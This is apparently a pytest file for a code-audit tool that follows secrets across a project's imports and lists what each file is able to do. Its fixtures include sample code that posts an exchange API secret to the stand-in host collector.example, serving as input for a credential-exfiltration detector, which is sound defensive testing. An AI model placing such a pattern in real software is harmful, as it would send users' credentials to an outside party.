"""What the files of a project do together."""

import pytest

from ringfence.audit.code.capability import Capability, Power
from ringfence.audit.code.compare import compare
from ringfence.audit.code.project import join
from ringfence.audit.code.python import read
from ringfence.audit.finding import Place

NOTIFY = (
    b"import requests\ndef send(text, to='https://collector.example/n'):\n    requests.post(to, json={'t': text})\n"
)


def test_the_way_of_a_secret_is_told_from_where_it_is_read_to_where_it_is_sent() -> None:
    bot = b"from notify import send\ndef start(exchange):\n    send(exchange.secret)\n"
    (found,) = join([read("bot/notify.py", NOTIFY), read("bot/main.py", bot)])
    assert found.rule == "code/credential-sent"
    assert found.place == Place("bot/notify.py", 3)
    assert [(str(step.place), step.text) for step in found.way] == [
        ("bot/main.py:3", "reads start#exchange.secret"),
        ("bot/main.py:3", "passed to send()"),
        ("bot/notify.py:3", "sent to collector.example"),
    ]


def test_what_one_file_shows_is_not_said_again() -> None:
    alone = read("a.py", NOTIFY + b"send(API_SECRET)\n")
    assert [item.rule for item in alone.findings] == ["code/credential-sent"]
    assert list(join([alone])) == []


@pytest.mark.parametrize(
    ("helper", "line"),
    [
        ("lib/notify.py", "from .notify import send"),
        ("lib/notify.py", "from lib.notify import send"),
        ("lib/notify.py", "from notify import send"),
        ("lib/notify.py", "from lib.notify import *"),
        ("lib/notify.py", "import lib.notify\nsend = lib.notify.send"),
        ("src/lib/notify.py", "from lib.notify import send"),
        ("lib/notify/__init__.py", "from .notify import send"),
        ("notify.py", "from ..notify import send"),
    ],
)
def test_a_name_is_found_as_python_would_find_it(helper: str, line: str) -> None:
    place = "src/lib/main.py" if helper.startswith("src/") else "lib/main.py"
    bot = f"{line}\ndef start(exchange):\n    send(exchange.secret)\n".encode()
    assert [item.rule for item in join([read(helper, NOTIFY), read(place, bot)])] == ["code/credential-sent"]


def test_a_helper_that_is_given_the_exchanges_host_is_not_blamed_for_another_call() -> None:
    helper = b"import requests\ndef post(url, body):\n    requests.post(url, json=body)\n"
    bot = (
        b"from helper import post\ndef go(exchange):\n    post('https://api.bybit.com/v5', {'k': exchange.secret})\n"
        b"    post('https://api.telegram.org/bot1/sendMessage', {'text': 'started'})\n"
    )
    assert list(join([read("helper.py", helper), read("bot.py", bot)])) == []


def test_files_that_import_each_other_and_themselves_are_read_to_an_end() -> None:
    one = b"from two import *\nfrom one import f\nclass A(A):\n    pass\ndef f(x): return g(f(x))\n"
    two = (
        b"from one import *\nfrom two import g\nclass B(A, B):\n"
        b"    def m(self, x): self.m(self.x); self.x = x\ndef g(x): return f(g(x))\n"
    )
    list(join([read("one.py", one), read("two.py", two)]))


def test_an_upgrade_gained_what_it_could_not_do_before_wherever_it_stands() -> None:
    old = [Capability(Power.HOST, "api.bybit.com", Place("a.py", 3))]
    new = [
        Capability(Power.HOST, "api.bybit.com", Place("b.py", 9)),
        Capability(Power.PROGRAM, "os.system", Place("b.py", 7)),
        Capability(Power.PROGRAM, "os.system", Place("a.py", 8)),
    ]
    assert compare(old, new) == (Capability(Power.PROGRAM, "os.system", Place("a.py", 8)),)
    assert compare(new, new) == ()


def test_what_a_file_is_able_to_do_is_listed() -> None:
    text = b"import os, requests, ctypes\nos.getenv('HOME')\nopen('/etc/hosts')\nos.system('ls')\nexec('1')\nrequests.get('https://a.example')\n"
    able = {(item.power, item.what) for item in read("a.py", text).capabilities}
    assert {
        (Power.HOST, "a.example"),
        (Power.NETWORK, "requests"),
        (Power.PROGRAM, "os.system"),
        (Power.EVALUATE, "exec"),
        (Power.ENVIRONMENT, "HOME"),
        (Power.READ, "/etc/hosts"),
        (Power.NATIVE, "ctypes"),
    } <= able
